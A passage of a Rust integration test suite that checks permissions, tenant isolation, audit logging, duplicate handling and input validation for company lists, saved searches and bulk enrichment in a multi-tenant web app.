#![cfg(feature = "ssr")]
#![allow(clippy::unwrap_used, clippy::expect_used)]
//! Lists (personal and shared), adding and removing companies, "Enrich all", saved
//! searches and the CSV export, through the real router against a real Postgres: who
//! may do what, tenants, the audit trail, duplicates, confirmations, and bad input
//! that is refused and changes nothing. Also the pages, without JavaScript.

mod common;

use app::model::{CompanyFilter, Role};
use app::server::AppState;
use axum::http::StatusCode;
use common::Reply;
use serde_json::Value;
use sqlx::PgPool;
use uuid::Uuid;

const PASSWORD: &str = "a long password";

struct World {
    state: AppState,
    acme: Uuid,
    /// Acme's companies, in insertion order.
    companies: Vec<i64>,
    /// A company of the other workspace.
    globex_company: i64,
}

async fn world(pool: &PgPool, extra: &[&str]) -> World {
    // "Enrich all" enqueues jobs: the queue's schema must exist.
    let world = common::world::World::build(pool)
        .jobs()
        .tenant(
            "acme",
            &[
                ("ada@acme.example", Role::Admin),
                ("anna@acme.example", Role::Analyst),
                ("andy@acme.example", Role::Analyst),
                ("emil@acme.example", Role::Employee),
            ],
        )
        .tenant("globex", &[("gina@globex.example", Role::Analyst)])
        .flags(extra)
        .done()
        .await;
    let (acme, globex) = (world.tenant("acme"), world.tenant("globex"));
    let companies: Vec<i64> = sqlx::query_scalar(
        "INSERT INTO companies (tenant_id, name, website_url, website, sector, location, score)
         SELECT $1, 'Company ' || i, 'https://c' || i || '.example/', 'c' || i || '.example',
                (ARRAY['Fintech', 'Robotics'])[1 + i % 2], (ARRAY['Berlin', 'London'])[1 + i % 2],
                i * 5
         FROM generate_series(1, 12) i
         RETURNING id",
    )
    .bind(acme)
    .fetch_all(pool)
    .await
    .unwrap();
    let globex_company = sqlx::query_scalar(
        "INSERT INTO companies (tenant_id, name, website_url, website)
         VALUES ($1, 'Globex Co', 'https://globex.example/', 'globex.example') RETURNING id",
    )
    .bind(globex)
    .fetch_one(pool)
    .await
    .unwrap();
    World {
        state: world.state,
        acme,
        companies,
        globex_company,
    }
}

impl World {
    async fn cookie(&self, who: &str) -> String {
        common::session_cookie(&self.state, who, PASSWORD).await
    }

    async fn call(&self, cookie: &str, path: &str, form: &[(&str, String)]) -> Reply {
        common::call_fn(&self.state, cookie, path, form).await
    }

    async fn create(&self, cookie: &str, name: &str, shared: bool) -> Reply {
        let mut form = vec![("name", name.to_string())];
        if shared {
            form.push(("shared", "on".to_string()));
        }
        self.call(cookie, "/api/lists/create", &form).await
    }

    /// Creates a list and returns its id (the call must succeed).
    async fn list(&self, cookie: &str, name: &str, shared: bool) -> i64 {
        let reply = self.create(cookie, name, shared).await;
        assert_eq!(reply.status, StatusCode::OK, "{name}: {}", reply.body);
        reply.body.parse().unwrap()
    }

    async fn add(&self, cookie: &str, list: i64, companies: &[i64]) -> Reply {
        let mut form = vec![("list_id", list.to_string())];
        form.extend(companies.iter().map(|id| ("companies[]", id.to_string())));
        self.call(cookie, "/api/lists/add", &form).await
    }

    async fn remove(&self, cookie: &str, list: i64, company: i64, confirm: Option<&str>) -> Reply {
        let mut form = vec![
            ("list_id", list.to_string()),
            ("company_id", company.to_string()),
        ];
        if let Some(confirm) = confirm {
            form.push(("confirm", confirm.to_string()));
        }
        self.call(cookie, "/api/lists/remove", &form).await
    }

    async fn rename(&self, cookie: &str, list: i64, version: i32, name: &str) -> Reply {
        self.call(
            cookie,
            "/api/lists/rename",
            &[
                ("id", list.to_string()),
                ("version", version.to_string()),
                ("name", name.to_string()),
            ],
        )
        .await
    }

    async fn delete(&self, cookie: &str, list: i64, confirm: Option<&str>) -> Reply {
        let mut form = vec![("id", list.to_string())];
        if let Some(confirm) = confirm {
            form.push(("confirm", confirm.to_string()));
        }
        self.call(cookie, "/api/lists/delete", &form).await
    }

    async fn overview(&self, cookie: &str) -> Value {
        let reply = self.call(cookie, "/api/lists/all", &[]).await;
        assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
        json(&reply)
    }

    async fn save_search(&self, cookie: &str, name: &str, query: &str) -> Reply {
        self.call(
            cookie,
            "/api/searches/save",
            &[("name", name.to_string()), ("query", query.to_string())],
        )
        .await
    }

    async fn searches(&self, cookie: &str) -> Vec<Value> {
        let reply = self.call(cookie, "/api/searches/mine", &[]).await;
        assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
        serde_json::from_str(&reply.body).unwrap()
    }
}

fn json(reply: &Reply) -> Value {
    serde_json::from_str(&reply.body).unwrap_or_else(|_| panic!("not JSON: {}", reply.body))
}

/// Everything lists, saved searches and their audit trail hold, as one string: a
/// refused request must leave it exactly as it was.
async fn snapshot(pool: &PgPool) -> String {
    sqlx::query_scalar(
        "SELECT concat_ws(' | ',
            coalesce((SELECT string_agg(id || ':' || name || ':' || coalesce(owner_id::text, 'shared') || ':' || version, ',' ORDER BY id) FROM company_lists), ''),
            coalesce((SELECT string_agg(list_id || ':' || company_id, ',' ORDER BY list_id, company_id) FROM company_list_items), ''),
            coalesce((SELECT string_agg(id || ':' || name || ':' || query, ',' ORDER BY id) FROM saved_searches), ''),
            (SELECT count(*)::text FROM company_actions),
            (SELECT count(*)::text FROM companies))",
    )
    .fetch_one(pool)
    .await
    .unwrap()
}

async fn audit_rows(
    pool: &PgPool,
    kind: &str,
) -> Vec<(Option<i64>, Option<i64>, Option<Value>, Option<Value>)> {
    sqlx::query_as(
        "SELECT list_id, company_id, before, after FROM company_actions
         WHERE kind::text = $1 ORDER BY id",
    )
    .bind(kind)
    .fetch_all(pool)
    .await
    .unwrap()
}

async fn items(pool: &PgPool, list: i64) -> Vec<i64> {
    sqlx::query_scalar(
        "SELECT company_id FROM company_list_items WHERE list_id = $1 ORDER BY company_id",
    )
    .bind(list)
    .fetch_all(pool)
    .await
    .unwrap()
}

#[sqlx::test]
async fn personal_and_shared_lists_are_created_renamed_and_named_uniquely(pool: PgPool) {
    let w = world(&pool, &[]).await;
    let anna = w.cookie("anna@acme.example").await;
    let andy = w.cookie("andy@acme.example").await;
    let ada = w.cookie("ada@acme.example").await;
    let emil = w.cookie("emil@acme.example").await;

    let shortlist = w.list(&anna, "  Shortlist ", false).await;
    let (owner, name): (Option<Uuid>, String) =
        sqlx::query_as("SELECT owner_id, name FROM company_lists WHERE id = $1")
            .bind(shortlist)
            .fetch_one(&pool)
            .await
            .unwrap();
    assert_eq!(name, "Shortlist");
    assert_eq!(
        owner,
        Some(common::viewer(&pool, "anna@acme.example").await.user_id)
    );
    let created = audit_rows(&pool, "list_created").await;
    assert_eq!(created.len(), 1);
    assert_eq!(created[0].0, Some(shortlist));
    assert_eq!(created[0].3.as_ref().unwrap()["name"], "Shortlist");
    assert_eq!(created[0].3.as_ref().unwrap()["shared"], false);

    // The same name in another case: 409 naming the existing list, nothing written.
    let before = snapshot(&pool).await;
    let reply = w.create(&anna, "SHORTLIST", false).await;
    assert_eq!(reply.status, StatusCode::CONFLICT, "{}", reply.body);
    let error = json(&reply);
    assert_eq!(error["current"]["id"], shortlist);
    assert_eq!(error["current"]["name"], "Shortlist");
    assert_eq!(error["current"]["duplicate"], true);
    assert_eq!(snapshot(&pool).await, before);
    // Names are per owner: Andy may have a Shortlist of his own.
    w.list(&andy, "Shortlist", false).await;

    // Shared lists are for admins to create.
    for cookie in [&anna, &andy] {
        let reply = w.create(cookie, "Pipeline", true).await;
        assert_eq!(reply.status, StatusCode::FORBIDDEN, "{}", reply.body);
    }
    let reply = w.create(&emil, "Pipeline", false).await;
    assert_eq!(
        reply.status,
        StatusCode::FORBIDDEN,
        "employees have no company access"
    );
    let pipeline = w.list(&ada, "Pipeline", true).await;
    let reply = w.create(&ada, "pipeline", true).await;
    assert_eq!(
        reply.status,
        StatusCode::CONFLICT,
        "one name among the shared lists"
    );
    // A personal list may share a shared list's name.
    w.list(&ada, "Pipeline", false).await;
    w.list(&anna, "Pipeline", false).await;

    // Rename: the owner, at the version they saw; audited with before and after.
    let reply = w.rename(&anna, shortlist, 1, "Top picks").await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    let renamed = json(&reply);
    assert_eq!(renamed["name"], "Top picks");
    assert_eq!(renamed["version"], 2);
    let audit = audit_rows(&pool, "list_renamed").await;
    assert_eq!(audit.len(), 1);
    assert_eq!(audit[0].2.as_ref().unwrap()["name"], "Shortlist");
    assert_eq!(audit[0].3.as_ref().unwrap()["name"], "Top picks");
    // A stale version: 409 with the list as it is now.
    let before = snapshot(&pool).await;
    let reply = w.rename(&anna, shortlist, 1, "Something else").await;
    assert_eq!(reply.status, StatusCode::CONFLICT);
    assert_eq!(json(&reply)["current"]["name"], "Top picks");
    assert_eq!(json(&reply)["current"]["version"], 2);
    // Another of her own lists' names (any case): 409 naming it.
    let reply = w.rename(&anna, shortlist, 2, "PIPELINE").await;
    assert_eq!(reply.status, StatusCode::CONFLICT);
    assert_eq!(json(&reply)["current"]["duplicate"], true);
    assert_eq!(snapshot(&pool).await, before);
    // Changing only the case of its own name is fine.
    let reply = w.rename(&anna, shortlist, 2, "TOP picks").await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);

    // Shared lists: an analyst may not rename them; an admin may.
    let reply = w.rename(&anna, pipeline, 1, "Deals").await;
    assert_eq!(reply.status, StatusCode::FORBIDDEN);
    let reply = w.rename(&ada, pipeline, 1, "Deals").await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);

    // Anna sees her lists and the shared one, with counts and what she may manage.
    w.add(&anna, pipeline, &w.companies[..3]).await;
    let overview = w.overview(&anna).await;
    let names = |key: &str| -> Vec<String> {
        overview[key]
            .as_array()
            .unwrap()
            .iter()
            .map(|l| l["name"].as_str().unwrap().to_string())
            .collect()
    };
    assert_eq!(names("personal"), vec!["Pipeline", "TOP picks"]);
    assert_eq!(names("shared"), vec!["Deals"]);
    assert_eq!(overview["shared"][0]["companies"], 3);
    assert_eq!(overview["shared"][0]["may_manage"], false);
    assert_eq!(overview["personal"][0]["may_manage"], true);
    assert_eq!(overview["may_manage_shared"], false);
    assert_eq!(w.overview(&ada).await["shared"][0]["may_manage"], true);
}

#[sqlx::test]
async fn deleting_a_list_needs_the_confirmation_and_is_audited(pool: PgPool) {
    let w = world(&pool, &[]).await;
    let anna = w.cookie("anna@acme.example").await;
    let ada = w.cookie("ada@acme.example").await;
    let list = w.list(&anna, "Doomed", false).await;
    w.add(&anna, list, &w.companies[..4]).await;

    let before = snapshot(&pool).await;
    for confirm in [None, Some(""), Some("no"), Some("true")] {
        let reply = w.delete(&anna, list, confirm).await;
        assert_eq!(
            reply.status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{confirm:?}"
        );
        assert_eq!(json(&reply)["field"], "confirm");
    }
    assert_eq!(snapshot(&pool).await, before);

    let reply = w.delete(&anna, list, Some("yes")).await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    assert!(items(&pool, list).await.is_empty());
    let left: i64 = sqlx::query_scalar("SELECT count(*) FROM company_lists WHERE id = $1")
        .bind(list)
        .fetch_one(&pool)
        .await
        .unwrap();
    assert_eq!(left, 0);
    // The companies stay; the audit row keeps the name and what was on the list.
    let companies: i64 = sqlx::query_scalar("SELECT count(*) FROM companies WHERE id = ANY($1)")
        .bind(&w.companies)
        .fetch_one(&pool)
        .await
        .unwrap();
    assert_eq!(companies, 12);
    let audit = audit_rows(&pool, "list_deleted").await;
    assert_eq!(audit.len(), 1);
    let gone = audit[0].2.as_ref().unwrap();
    assert_eq!(gone["name"], "Doomed");
    assert_eq!(gone["companies"], 4);
    assert_eq!(gone["company_ids"], serde_json::json!(&w.companies[..4]));
    assert!(audit[0].3.is_none());
    // Deleting it again: it is not there.
    assert_eq!(
        w.delete(&anna, list, Some("yes")).await.status,
        StatusCode::NOT_FOUND
    );

    // A shared list: admins only.
    let shared = w.list(&ada, "Team", true).await;
    assert_eq!(
        w.delete(&anna, shared, Some("yes")).await.status,
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        w.delete(&ada, shared, Some("yes")).await.status,
        StatusCode::OK
    );
}

#[sqlx::test]
async fn other_peoples_and_other_workspaces_lists_are_invisible(pool: PgPool) {
    let w = world(&pool, &[]).await;
    let anna = w.cookie("anna@acme.example").await;
    let andy = w.cookie("andy@acme.example").await;
    let ada = w.cookie("ada@acme.example").await;
    let gina = w.cookie("gina@globex.example").await;
    let andys = w.list(&andy, "Andy's", false).await;
    w.add(&andy, andys, &w.companies[..2]).await;
    let ginas = w.list(&gina, "Gina's", false).await;
    let annas = w.list(&anna, "Anna's", false).await;

    let before = snapshot(&pool).await;
    // Another person's personal list, even for an admin: 404 for every action.
    for cookie in [&anna, &ada] {
        let detail = w
            .call(
                cookie,
                "/api/lists/detail",
                &[("id", andys.to_string()), ("query", String::new())],
            )
            .await;
        assert_eq!(detail.status, StatusCode::NOT_FOUND);
        assert_eq!(
            w.rename(cookie, andys, 1, "Mine now").await.status,
            StatusCode::NOT_FOUND
        );
        assert_eq!(
            w.delete(cookie, andys, Some("yes")).await.status,
            StatusCode::NOT_FOUND
        );
        assert_eq!(
            w.add(cookie, andys, &w.companies[5..6]).await.status,
            StatusCode::NOT_FOUND
        );
        assert_eq!(
            w.remove(cookie, andys, w.companies[0], Some("yes"))
                .await
                .status,
            StatusCode::NOT_FOUND
        );
        let enrich = w
            .call(cookie, "/api/lists/enrich", &[("id", andys.to_string())])
            .await;
        assert_eq!(enrich.status, StatusCode::NOT_FOUND);
        assert!(
            w.overview(cookie).await["personal"]
                .as_array()
                .unwrap()
                .iter()
                .all(|l| l["id"] != andys)
        );
        // The companies page filtered by it shows nothing.
        let page = w
            .call(
                cookie,
                "/api/companies/list",
                &[("query", format!("list={andys}"))],
            )
            .await;
        assert_eq!(json(&page)["rows"].as_array().unwrap().len(), 0);
    }
    // Another workspace's list and companies do not exist for Anna, nor hers for Gina.
    let detail = w
        .call(
            &anna,
            "/api/lists/detail",
            &[("id", ginas.to_string()), ("query", String::new())],
        )
        .await;
    assert_eq!(detail.status, StatusCode::NOT_FOUND);
    assert_eq!(
        w.add(&anna, ginas, &w.companies[..1]).await.status,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        w.add(&anna, annas, &[w.globex_company]).await.status,
        StatusCode::NOT_FOUND
    );
    // One foreign id among good ones refuses the whole request.
    let mixed = [w.companies[0], w.globex_company];
    assert_eq!(
        w.add(&anna, annas, &mixed).await.status,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        w.add(&gina, ginas, &w.companies[..1]).await.status,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        w.delete(&gina, annas, Some("yes")).await.status,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        w.rename(&gina, annas, 1, "x").await.status,
        StatusCode::NOT_FOUND
    );
    let gina_sees = w.overview(&gina).await;
    assert_eq!(gina_sees["personal"].as_array().unwrap().len(), 1);
    assert_eq!(gina_sees["shared"].as_array().unwrap().len(), 0);
    assert_eq!(snapshot(&pool).await, before);

    // The list pages say 404 too.
    let page = common::get_with_cookie(w.state.clone(), &format!("/lists/{andys}"), &anna).await;
    assert_eq!(page.status, StatusCode::NOT_FOUND);
}

#[sqlx::test]
async fn adding_and_removing_companies_is_audited_and_never_doubles(pool: PgPool) {
    let w = world(&pool, &[]).await;
    let anna = w.cookie("anna@acme.example").await;
    let ada = w.cookie("ada@acme.example").await;
    let list = w.list(&anna, "Shortlist", false).await;
    let [a, b, c, d] = [
        w.companies[0],
        w.companies[1],
        w.companies[2],
        w.companies[3],
    ];

    // One row's button (`company`).
    let reply = w
        .call(
            &anna,
            "/api/lists/add",
            &[("list_id", list.to_string()), ("company", a.to_string())],
        )
        .await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    let report = json(&reply);
    assert_eq!(
        (report["added"].clone(), report["already"].clone()),
        (1.into(), 0.into())
    );
    assert_eq!(report["list_name"], "Shortlist");
    // Twice: not an error, one item, one audit row.
    let reply = w.add(&anna, list, &[a]).await;
    assert_eq!(reply.status, StatusCode::OK);
    assert_eq!(json(&reply)["already"], 1);
    assert_eq!(json(&reply)["added"], 0);
    assert_eq!(items(&pool, list).await, vec![a]);
    let added = audit_rows(&pool, "list_added").await;
    assert_eq!(added.len(), 1);
    assert_eq!(added[0].0, Some(list));
    assert_eq!(added[0].1, Some(a));
    assert_eq!(added[0].2.as_ref().unwrap()["on_list"], false);
    assert_eq!(added[0].3.as_ref().unwrap()["on_list"], true);
    assert_eq!(added[0].3.as_ref().unwrap()["list"]["name"], "Shortlist");

    // Bulk: the ticked rows (one already on it, one ticked twice).
    let reply = w.add(&anna, list, &[a, b, c, c]).await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    assert_eq!(json(&reply)["added"], 2);
    assert_eq!(json(&reply)["already"], 1);
    assert_eq!(items(&pool, list).await, vec![a, b, c]);
    assert_eq!(audit_rows(&pool, "list_added").await.len(), 3);

    // Remove: only with the confirmation; audited; a second time is "not on it".
    let before = snapshot(&pool).await;
    let reply = w.remove(&anna, list, b, None).await;
    assert_eq!(reply.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(snapshot(&pool).await, before);
    let reply = w.remove(&anna, list, b, Some("yes")).await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    assert_eq!(reply.body, "true");
    assert_eq!(items(&pool, list).await, vec![a, c]);
    let removed = audit_rows(&pool, "list_removed").await;
    assert_eq!(removed.len(), 1);
    assert_eq!((removed[0].0, removed[0].1), (Some(list), Some(b)));
    assert_eq!(removed[0].2.as_ref().unwrap()["on_list"], true);
    assert!(removed[0].2.as_ref().unwrap()["added_at"].is_string());
    assert_eq!(removed[0].3.as_ref().unwrap()["on_list"], false);
    let reply = w.remove(&anna, list, b, Some("yes")).await;
    assert_eq!(reply.body, "false");
    assert_eq!(audit_rows(&pool, "list_removed").await.len(), 1);
    let reply = w.remove(&anna, list, d, Some("yes")).await;
    assert_eq!(reply.body, "false");

    // Everyone with company access works the shared lists' contents.
    let shared = w.list(&ada, "Team picks", true).await;
    let reply = w.add(&anna, shared, &[a, d]).await;
    assert_eq!(reply.status, StatusCode::OK);
    let reply = w.remove(&anna, shared, d, Some("yes")).await;
    assert_eq!(reply.body, "true");
    assert_eq!(items(&pool, shared).await, vec![a]);

    // The companies page filtered by the list shows exactly what is on it.
    let page = w
        .call(
            &anna,
            "/api/companies/list",
            &[("query", format!("list={list}&sort=name"))],
        )
        .await;
    let shown: Vec<i64> = json(&page)["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|row| row["id"].as_i64().unwrap())
        .collect();
    let mut want = vec![a, c];
    want.sort_by_key(|id| {
        let at = w.companies.iter().position(|c| c == id).unwrap() + 1;
        format!("company {at}")
    });
    assert_eq!(shown, want);

    // Two people adding the same companies at once: each lands once.
    let racers = (0..6).map(|i| {
        let cookie = if i % 2 == 0 {
            anna.clone()
        } else {
            ada.clone()
        };
        let w = &w;
        let ids = w.companies[4..10].to_vec();
        async move { w.add(&cookie, shared, &ids).await.status }
    });
    let statuses = futures::future::join_all(racers).await;
    assert!(
        statuses.iter().all(|s| *s == StatusCode::OK),
        "{statuses:?}"
    );
    assert_eq!(items(&pool, shared).await.len(), 7);
    let shared_adds: i64 = sqlx::query_scalar(
        "SELECT count(*) FROM company_actions WHERE kind = 'list_added' AND list_id = $1",
    )
    .bind(shared)
    .fetch_one(&pool)
    .await
    .unwrap();
    assert_eq!(shared_adds, 2 + 6);
}

/// The jobs waiting in the enrichment queue.
async fn queued_jobs(pool: &PgPool) -> i64 {
    sqlx::query_scalar(
        "SELECT count(*) FROM underway.task WHERE task_queue_name = 'enrich' AND state = 'pending'",
    )
    .fetch_one(pool)
    .await
    .unwrap()
}

#[sqlx::test]
async fn enrich_all_queues_one_job_per_company_until_the_hourly_limit(pool: PgPool) {
    let w = world(&pool, &["--enrich-per-hour", "free=10"]).await;
    let anna = w.cookie("anna@acme.example").await;
    let first = w.list(&anna, "First six", false).await;
    w.add(&anna, first, &w.companies[..6]).await;

    let reply = w
        .call(&anna, "/api/lists/enrich", &[("id", first.to_string())])
        .await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    let report = json(&reply);
    assert_eq!(report["queued"], 6);
    assert_eq!(report["already_running"], 0);
    assert_eq!(queued_jobs(&pool).await, 6);
    let queued: i64 = sqlx::query_scalar(
        "SELECT count(*) FROM enrichments WHERE status = 'queued' AND company_id = ANY($1)",
    )
    .bind(&w.companies[..6])
    .fetch_one(&pool)
    .await
    .unwrap();
    assert_eq!(queued, 6);

    // Again: all six are already under way; nothing new, no quota spent.
    let reply = w
        .call(&anna, "/api/lists/enrich", &[("id", first.to_string())])
        .await;
    let report = json(&reply);
    assert_eq!(
        (
            report["queued"].as_u64(),
            report["already_running"].as_u64()
        ),
        (Some(0), Some(6))
    );
    assert_eq!(queued_jobs(&pool).await, 6);

    // A second list: two already running, six new; four fit in the hour, two do not.
    let second = w.list(&anna, "Next eight", false).await;
    w.add(&anna, second, &w.companies[4..12]).await;
    let reply = w
        .call(&anna, "/api/lists/enrich", &[("id", second.to_string())])
        .await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    let report: app::model::EnrichAllReport = serde_json::from_str(&reply.body).unwrap();
    assert_eq!(report.queued, 4);
    assert_eq!(report.already_running, 2);
    assert_eq!(report.refused_hourly, 2);
    assert!(report.retry_after_s > 3500, "{report:?}");
    assert!(
        report.summary().starts_with(
            "4 queued, 2 already running, 2 refused: hourly limit (the next frees up in"
        ),
        "{}",
        report.summary()
    );
    assert_eq!(queued_jobs(&pool).await, 10);

    // Without JavaScript: back to the list, whose page says the same.
    let reply = common::post_html_form(
        w.state.clone(),
        "/api/lists/enrich",
        &[("id", &second.to_string())],
        &anna,
    )
    .await;
    assert_eq!(reply.status, StatusCode::FOUND);
    assert!(
        reply
            .location()
            .starts_with(&format!("/lists/{second}?enrich=")),
        "{}",
        reply.location()
    );
    let page = common::get_with_cookie(w.state.clone(), reply.location(), &anna).await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(
        page.body
            .contains("0 queued, 6 already running, 2 refused: hourly limit"),
        "{}",
        page.body
    );
    assert_eq!(queued_jobs(&pool).await, 10);

    // The budget: once spent, the rest are refused and say why.
    sqlx::query("UPDATE tenants SET enrich_budget_micros = 0 WHERE id = $1")
        .bind(w.acme)
        .execute(&pool)
        .await
        .unwrap();
    let ada = w.cookie("ada@acme.example").await;
    let team = w.list(&ada, "Team", true).await;
    w.add(&ada, team, &w.companies[10..12]).await;
    let reply = w
        .call(&ada, "/api/lists/enrich", &[("id", team.to_string())])
        .await;
    let report: app::model::EnrichAllReport = serde_json::from_str(&reply.body).unwrap();
    assert_eq!((report.queued, report.refused_budget), (0, 2), "{report:?}");
    assert!(report.summary().contains("monthly budget"));

    // Who may: not an employee (no company access), not another workspace.
    let emil = w.cookie("emil@acme.example").await;
    let reply = w
        .call(&emil, "/api/lists/enrich", &[("id", first.to_string())])
        .await;
    assert_eq!(reply.status, StatusCode::FORBIDDEN);
    let gina = w.cookie("gina@globex.example").await;
    let reply = w
        .call(&gina, "/api/lists/enrich", &[("id", first.to_string())])
        .await;
    assert_eq!(reply.status, StatusCode::NOT_FOUND);
    assert_eq!(queued_jobs(&pool).await, 10);
}

#[sqlx::test]
async fn saved_searches_reproduce_their_filter_and_stay_private(pool: PgPool) {
    let w = world(&pool, &[]).await;
    let anna = w.cookie("anna@acme.example").await;
    let andy = w.cookie("andy@acme.example").await;
    let gina = w.cookie("gina@globex.example").await;

    // Saved in canonical order, without the page marker.
    let typed = "sort=name&min_score=20&location=Berlin&sector=fintech&after=3.company%203";
    let reply = w.save_search(&anna, " Berlin fintech ", typed).await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    let saved = json(&reply);
    assert_eq!(saved["name"], "Berlin fintech");
    assert_eq!(
        saved["query"],
        "sector=fintech&location=Berlin&min_score=20&sort=name"
    );
    let mut wanted = CompanyFilter::from_query_string(typed).unwrap();
    wanted.after = None;

    // In her menu, as a link that reproduces the filter exactly.
    let menu = w.searches(&anna).await;
    assert_eq!(menu.len(), 1);
    let search: app::model::SavedSearch = serde_json::from_value(menu[0].clone()).unwrap();
    let href = search.href();
    let (path, query) = href.split_once('?').unwrap();
    assert_eq!(path, "/companies");
    assert_eq!(CompanyFilter::from_query_string(query).unwrap(), wanted);
    let viewer = common::viewer(&pool, "anna@acme.example").await;
    let via_link = app::server::companies::list(
        &pool,
        &viewer,
        &CompanyFilter::from_query_string(query).unwrap(),
    )
    .await
    .unwrap();
    let direct = app::server::companies::list(&pool, &viewer, &wanted)
        .await
        .unwrap();
    assert_eq!(via_link, direct);
    assert!(!direct.rows.is_empty());
    let page = common::get_with_cookie(w.state.clone(), "/companies", &anna).await;
    assert!(
        page.body.contains(
            "href=\"/companies?sector=fintech&amp;location=Berlin&amp;min_score=20&amp;sort=name\""
        ),
        "the menu links to the search"
    );
    let audit = audit_rows(&pool, "search_saved").await;
    assert_eq!(audit.len(), 1);
    assert_eq!(audit[0].3.as_ref().unwrap()["name"], "Berlin fintech");

    // Refused, nothing written: an empty filter, a bad query, bad names, a duplicate,
    // a list that is not hers to see.
    let andys = w.list(&andy, "Andy's", false).await;
    let before = snapshot(&pool).await;
    let long = "n".repeat(101);
    let bad: Vec<(&str, String, StatusCode, &str)> = vec![
        (
            "Everything",
            String::new(),
            StatusCode::UNPROCESSABLE_ENTITY,
            "query",
        ),
        (
            "Sorted",
            "sort=name".into(),
            StatusCode::UNPROCESSABLE_ENTITY,
            "query",
        ),
        (
            "Paged",
            "after=5.3".into(),
            StatusCode::UNPROCESSABLE_ENTITY,
            "query",
        ),
        (
            "Bad score",
            "min_score=abc".into(),
            StatusCode::UNPROCESSABLE_ENTITY,
            "query",
        ),
        (
            "Bad stage",
            "stage=unicorn".into(),
            StatusCode::UNPROCESSABLE_ENTITY,
            "query",
        ),
        (
            "Long",
            format!("q={}", "x".repeat(201)),
            StatusCode::UNPROCESSABLE_ENTITY,
            "query",
        ),
        (
            "Not a query",
            "%zz=%".into(),
            StatusCode::UNPROCESSABLE_ENTITY,
            "query",
        ),
        (
            "",
            "sector=x".into(),
            StatusCode::UNPROCESSABLE_ENTITY,
            "name",
        ),
        (
            "   ",
            "sector=x".into(),
            StatusCode::UNPROCESSABLE_ENTITY,
            "name",
        ),
        (
            &long,
            "sector=x".into(),
            StatusCode::UNPROCESSABLE_ENTITY,
            "name",
        ),
        (
            "Bell\u{7}",
            "sector=x".into(),
            StatusCode::UNPROCESSABLE_ENTITY,
            "name",
        ),
        (
            "Two\nlines",
            "sector=x".into(),
            StatusCode::UNPROCESSABLE_ENTITY,
            "name",
        ),
        (
            "Andy's list",
            format!("list={andys}"),
            StatusCode::UNPROCESSABLE_ENTITY,
            "list",
        ),
        (
            "BERLIN FINTECH",
            "sector=x".into(),
            StatusCode::CONFLICT,
            "",
        ),
    ];
    for (name, query, status, field) in &bad {
        let reply = w.save_search(&anna, name, query).await;
        assert_eq!(reply.status, *status, "{name:?} {query:?}: {}", reply.body);
        if !field.is_empty() {
            assert_eq!(json(&reply)["field"], *field, "{name:?} {query:?}");
        }
    }
    assert_eq!(snapshot(&pool).await, before);

    // Private: Andy and Gina see none of Anna's and cannot delete them.
    assert!(w.searches(&andy).await.is_empty());
    assert!(w.searches(&gina).await.is_empty());
    let id = search.id.to_string();
    for cookie in [&andy, &gina] {
        let reply = w
            .call(cookie, "/api/searches/delete", &[("id", id.clone())])
            .await;
        assert_eq!(reply.status, StatusCode::NOT_FOUND);
    }
    for bad_id in ["", "abc", "-4", "1.5"] {
        let reply = w
            .call(&anna, "/api/searches/delete", &[("id", bad_id.into())])
            .await;
        assert_eq!(reply.status, StatusCode::UNPROCESSABLE_ENTITY, "{bad_id}");
    }
    assert_eq!(snapshot(&pool).await, before);
    // Andy may use the same name for his own.
    assert_eq!(
        w.save_search(&andy, "Berlin fintech", "location=Berlin")
            .await
            .status,
        StatusCode::OK
    );

    let reply = w.call(&anna, "/api/searches/delete", &[("id", id)]).await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    assert!(w.searches(&anna).await.is_empty());
    assert_eq!(audit_rows(&pool, "search_deleted").await.len(), 1);
    let emil = w.cookie("emil@acme.example").await;
    assert_eq!(
        w.save_search(&emil, "Mine", "sector=x").await.status,
        StatusCode::FORBIDDEN
    );
}

#[sqlx::test]
async fn every_list_write_refuses_bad_input_and_changes_nothing(pool: PgPool) {
    let w = world(&pool, &[]).await;
    let anna = w.cookie("anna@acme.example").await;
    let list = w.list(&anna, "Shortlist", false).await;
    w.add(&anna, list, &w.companies[..2]).await;
    let (l, c) = (list.to_string(), w.companies[0].to_string());
    let long = "x".repeat(101);
    let too_many: Vec<(&str, String)> = std::iter::once(("list_id", l.clone()))
        .chain((1..=501).map(|i| ("companies[]", i.to_string())))
        .collect();
    let s = |v: &str| v.to_string();
    // (server function, form, expected status)
    type Case<'a> = (&'a str, Vec<(&'a str, String)>, StatusCode);
    let cases: Vec<Case> = vec![
        (
            "/api/lists/create",
            vec![("name", s(""))],
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (
            "/api/lists/create",
            vec![("name", s("   "))],
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (
            "/api/lists/create",
            vec![("name", long.clone())],
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (
            "/api/lists/create",
            vec![("name", s("Tab\there"))],
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (
            "/api/lists/create",
            vec![("name", s("Nul\u{0}"))],
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (
            "/api/lists/create",
            vec![("name", s("Ok")), ("shared", s("maybe"))],
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (
            "/api/lists/create",
            vec![],
